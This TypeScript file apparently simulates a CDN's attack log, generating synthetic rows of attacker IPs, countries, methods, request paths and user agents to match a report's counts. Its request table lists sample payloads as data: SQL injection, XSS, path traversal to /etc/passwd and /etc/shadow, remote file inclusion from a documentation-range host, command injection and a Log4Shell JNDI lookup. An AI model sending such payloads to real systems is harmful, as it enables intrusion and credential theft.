// The attacks of a domain one by one: the same attacks the attacks report counts, each with its
// moment, its type, where it came from and the request it made, newest first, a page at a time.
import {
  ATTACK_TYPES,
  REPORT_COUNTRIES,
  cdnReportFigures,
  reportNoise,
  type ReportRange,
  type ReportSource,
} from './cdnReports';

export type CdnAttackType = (typeof ATTACK_TYPES)[number];

export interface CdnAttackRow {
  /** stable across calls: the point of the chart, the type and the attack's number in it */
  id: string;
  /** unix seconds */
  timestamp: number;
  type: CdnAttackType;
  attacker_ip: string;
  /** ISO 3166-1 alpha-2 */
  attacker_country: string;
  method: string;
  /** the path and query the attacker asked for */
  uri: string;
  user_agent: string;
}

export interface CdnAttackPage {
  items: CdnAttackRow[];
  /** every attack of the range: the attacks report's total */
  total: number;
  page: number;
  per_page: number;
}

/** The page sizes the list accepts. */
export const MAX_ATTACKS_PER_PAGE = 100;
export const DEFAULT_ATTACKS_PER_PAGE = 10;

/** What each type of attack asks for, and with what. */
const REQUESTS: Readonly<
  Record<CdnAttackType, { methods: readonly string[]; uris: readonly string[]; agents: readonly string[] }>
> = {
  sql_injection: {
    methods: ['GET', 'POST'],
    uris: [
      "/products?id=1' OR '1'='1",
      '/search?q=1 UNION SELECT username,password FROM users--',
      "/login?user=admin'--",
    ],
    agents: ['sqlmap/1.7.2#stable (https://sqlmap.org)', 'Mozilla/5.0 (X11; Linux x86_64) Firefox/118.0'],
  },
  xss: {
    methods: ['GET', 'POST'],
    uris: [
      '/search?q=<script>alert(1)</script>',
      '/comment?text=<img src=x onerror=alert(1)>',
      '/?next=javascript:alert(1)',
    ],
    agents: ['Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/119.0', 'python-requests/2.31.0'],
  },
  file_inclusion: {
    methods: ['GET'],
    uris: [
      '/index.php?page=../../../../etc/passwd',
      '/download?file=..%2f..%2f..%2fetc%2fshadow',
      '/view?tpl=http://198.51.100.7/shell.txt',
    ],
    agents: ['curl/8.4.0', 'Wget/1.21.4'],
  },
  remote_execution: {
    methods: ['POST', 'GET'],
    uris: [
      '/cgi-bin/status?cmd=;cat /etc/passwd',
      '/api/ping?host=127.0.0.1|id',
      '/api/users?name=%24%7Bjndi:ldap://203.0.113.9/a%7D',
    ],
    agents: ['Mozilla/5.0 zgrab/0.x', 'curl/7.88.1'],
  },
  bad_bot: {
    methods: ['GET', 'POST'],
    uris: ['/wp-login.php', '/xmlrpc.php', '/cart/add?item=1&qty=9999'],
    agents: ['Mozilla/5.0 (compatible; MJ12bot/v1.4.8)', 'Go-http-client/1.1', 'Scrapy/2.11.0'],
  },
  scanner: {
    methods: ['GET', 'HEAD'],
    uris: ['/.env', '/.git/config', '/phpmyadmin/index.php', '/server-status'],
    agents: ['Nikto/2.5.0', 'Mozilla/5.0 (compatible; Nmap Scripting Engine)', 'masscan/1.3'],
  },
};

/** The first octet of an attacker's address, by the country it came from (public ranges only). */
const FIRST_OCTET: Readonly<Record<string, readonly number[]>> = {
  IR: [5, 37, 91, 185],
  DE: [46, 78, 88],
  US: [23, 64, 104],
  NL: [31, 82, 145],
  TR: [78, 88, 176],
  AE: [94, 86, 217],
  GB: [51, 81, 86],
  FR: [51, 90, 109],
  IQ: [37, 149, 185],
  CA: [24, 99, 142],
};

const pick = <T>(list: readonly T[], r: number): T =>
  list[Math.min(list.length - 1, Math.floor(r * list.length))] as T;

/** The k-th attack of a type in the point starting at `t`, `span` seconds from `from`. */
function attackRow(
  source: ReportSource,
  type: CdnAttackType,
  t: number,
  k: number,
  from: number,
  span: number,
): CdnAttackRow {
  // a distinct slot number per attack and per field, so every field draws its own number
  const r = (field: number) => reportNoise(source.id, type, t * 4099 + k * 131 + field);
  const country = pick(REPORT_COUNTRIES, r(1) ** 2);
  const octets = [
    pick(FIRST_OCTET[country] ?? [185], r(2)),
    1 + Math.floor(r(3) * 254),
    Math.floor(r(4) * 256),
    1 + Math.floor(r(5) * 254),
  ];
  const request = REQUESTS[type];
  return {
    id: `${t}-${type}-${k}`,
    timestamp: from + Math.floor(r(6) * span),
    type,
    attacker_ip: octets.join('.'),
    attacker_country: country,
    method: pick(request.methods, r(7)),
    uri: pick(request.uris, r(8)),
    user_agent: pick(request.agents, r(9)),
  };
}

/**
 * One page of a domain's attacks over a range, newest first. They are the attacks report's own: as
 * many of each type in each point of its chart as the chart counts, so the list's total is the
 * report's total; each attack falls inside its point (never before the domain was added).
 */
export function cdnAttackPage(
  source: ReportSource,
  range: ReportRange,
  page: number,
  perPage: number,
): CdnAttackPage {
  const { charts, statistics } = cdnReportFigures(source, 'attacks', range);
  const points = charts.attacks?.categories ?? [];
  const byType = ATTACK_TYPES.map((type) => charts.attacks?.series.find((s) => s.name === type)?.data ?? []);
  const countsAt = (i: number) => byType.map((data) => data[i] ?? 0);
  const total = statistics.total ?? 0;
  const first = (page - 1) * perPage;
  const items: CdnAttackRow[] = [];
  let skipped = 0;
  for (let i = points.length - 1; i >= 0 && items.length < perPage; i--) {
    const counts = countsAt(i);
    const inPoint = counts.reduce((a, b) => a + b, 0);
    if (skipped + inPoint <= first) {
      skipped += inPoint;
      continue;
    }
    const t = points[i] as number;
    const from = Math.max(t, source.addedAt);
    const span = Math.max(1, Math.min(t + range.step, range.until) - from);
    const rows = ATTACK_TYPES.flatMap((type, j) =>
      Array.from({ length: counts[j] ?? 0 }, (_, k) => attackRow(source, type, t, k, from, span)),
    );
    rows.sort((a, b) => b.timestamp - a.timestamp || (a.id < b.id ? -1 : 1));
    const start = Math.max(0, first - skipped);
    items.push(...rows.slice(start, start + perPage - items.length));
    skipped += inPoint;
  }
  return { items, total, page, per_page: perPage };
}
